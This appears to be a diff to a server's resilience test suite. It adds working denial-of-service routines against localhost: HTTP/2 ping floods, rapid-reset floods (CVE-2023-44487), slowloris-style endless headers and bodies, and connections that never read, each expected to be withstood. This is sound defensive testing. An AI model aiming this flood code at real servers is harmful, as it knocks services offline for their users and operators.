@@ -172,6 +172,79 @@ def _open_stream(port: int) -> socket.socket:
     return stream
 
 
+def flood_pings(attacker: Attacker) -> None:
+    """Pings of HTTP/2 without TLS, as many as the server takes."""
+    ping = _frame(6, 0, 0, bytes(8)) * 4_000
+    _flood(attacker, lambda _: ping)
+
+
+def reset_rapidly(attacker: Attacker) -> None:
+    """Requests over HTTP/2 without TLS that are reset at once (CVE-2023-44487)."""
+    # Method GET, path /, scheme http, and the authority a.
+    head = bytes.fromhex("82 84 86 41 01 61")
+
+    def resets(sent: int) -> bytes:
+        streams = range(sent * 2_000 + 1, (sent + 1) * 2_000, 2)
+        return b"".join(
+            _frame(1, 5, stream, head) + _frame(3, 0, stream, b"\0\0\0\x08") for stream in streams
+        )
+
+    _flood(attacker, resets)
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    fixed = len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
+    return fixed + payload
+
+
+def _flood(attacker: Attacker, frames: Callable[[int], bytes]) -> None:
+    """Send frames of HTTP/2, on a new connection whenever the server has closed one."""
+    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
+    while not attacker.is_over:
+        with suppress(OSError), socket.create_connection(("127.0.0.1", attacker.port), 5) as one:
+            one.sendall(preface)
+            sent = 0
+            while not attacker.is_over:
+                one.sendall(frames(sent))
+                sent += 1
+
+
+def send_heads_slowly(attacker: Attacker) -> None:
+    """Three hundred requests whose headers do not end: a line each second."""
+    _hold(attacker, 300, b"GET / HTTP/1.1\r\nhost: a\r\n", b"x-a: b\r\n")
+
+
+def send_bodies_slowly(attacker: Attacker) -> None:
+    """Three hundred requests whose bodies do not end: a byte each second."""
+    headers = "".join(f"{name}: {value}\r\n" for name, value in ADMIN.items())
+    head = f"POST {API}/audit/events HTTP/1.1\r\nhost: a\r\n{headers}content-length: 9999\r\n\r\n"
+    _hold(attacker, 300, head.encode(), b" ")
+
+
+def read_nothing(attacker: Attacker) -> None:
+    """Sixty connections with forty requests each for a long page, of which nothing is read."""
+    _hold(attacker, 60, b"GET /docs HTTP/1.1\r\nhost: a\r\n\r\n" * 40, b"")
+
+
+def _hold(attacker: Attacker, connections: int, first: bytes, then: bytes) -> None:
+    """Open `connections` that send `first`, and `then` each second; again those that end."""
+    held: list[socket.socket] = []
+    while not attacker.is_over:
+        while len(held) < connections:
+            one = socket.create_connection(("127.0.0.1", attacker.port), 5)
+            one.sendall(first)
+            held.append(one)
+        for one in list(held):
+            try:
+                one.sendall(then)
+            except OSError:
+                one.close()
+                held.remove(one)
+        attacker.over.wait(1.0)
+    for one in held:
+        one.close()
+
+
 @dataclass(frozen=True)
 class Attack:
     """`threads` of one process run `run`. `ratio_max` is the goal for B's newest page."""
@@ -200,5 +273,11 @@ ATTACKS: Final = (
     Attack("16 audit pages", view, 16, WORKS),
     Attack("16 autocompletions", complete, 16, WORKS),
     Attack("ingest flood of 4 clients", ingest, 4, WORKS),
+    Attack("ping flood over HTTP/2", flood_pings, 1, HOLDS),
+    Attack("rapid resets over HTTP/2", reset_rapidly, 1, HOLDS),
+    Attack("300 heads that do not end", send_heads_slowly, 1, HOLDS),
+    Attack("300 bodies that do not end", send_bodies_slowly, 1, HOLDS),
+    Attack("60 clients that read nothing", read_nothing, 1, HOLDS),
 )
-"""The last three of the reading ones are ours; the others were found from outside."""
+"""Filters by text, audit pages, autocompletions, heads, bodies and clients that read nothing are
+ours; the others were found from outside."""
